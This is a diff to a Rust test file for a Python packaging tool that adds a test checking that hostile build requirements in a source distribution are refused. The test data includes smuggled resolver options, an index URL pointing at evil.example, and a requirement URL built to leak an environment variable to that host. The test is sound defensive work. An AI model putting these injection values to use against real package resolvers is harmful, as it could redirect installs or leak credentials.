@@ -53,7 +53,7 @@ fn build_requirements_without_a_solution_are_refused_with_the_resolvers_words() 
     if host::uv().is_none() {
         return skip("PIP_ACCEL_TEST_UV is not set and there is no uv on PATH");
     }
-    for requirement in ["no-such-project", "helper>=2", "helper @ https://127.0.0.1:9/helper-1.0-py3-none-any.whl"] {
+    for requirement in ["no-such-project", "helper>=2"] {
         let env = env();
         env.add(&WheelBuilder::simple("helper", "1.0").build());
         let sdist = SdistBuilder::simple("package", "1.0").build_requires(requirement).build();
@@ -63,6 +63,28 @@ fn build_requirements_without_a_solution_are_refused_with_the_resolvers_words() 
             .says(name)
             .says("`#: build` lines");
         assert_eq!(env.builds(), 0);
+    }
+}
+
+/// What an sdist writes there is a requirement of a release and nothing else: no option of the resolver, and no URL, in
+/// which it would put its variables.
+#[test]
+fn build_requirements_that_are_none_never_reach_the_resolver() {
+    for (requirement, says) in [
+        ("helper\n--no-binary helper", "a build requirement can't be read"),
+        ("--index-url https://evil.example/simple/", "a build requirement can't be read"),
+        (
+            "helper @ https://evil.example/${UV_DEFAULT_INDEX}.whl",
+            "is a file or URL, and build requirements are releases",
+        ),
+    ] {
+        let mut env = env();
+        // Nothing that could be run: it is refused before.
+        env.set("PIP_ACCEL_UV", "/nowhere/uv");
+        let sdist = SdistBuilder::simple("package", "1.0").build_requires(requirement).build();
+        refused(&env, (&lock_of(&env, &[&sdist]).text(), &[]), exit::BUILD_FAILED)
+            .says("the build requirements of `package==1.0` can't be resolved: ")
+            .says(says);
     }
 }
 
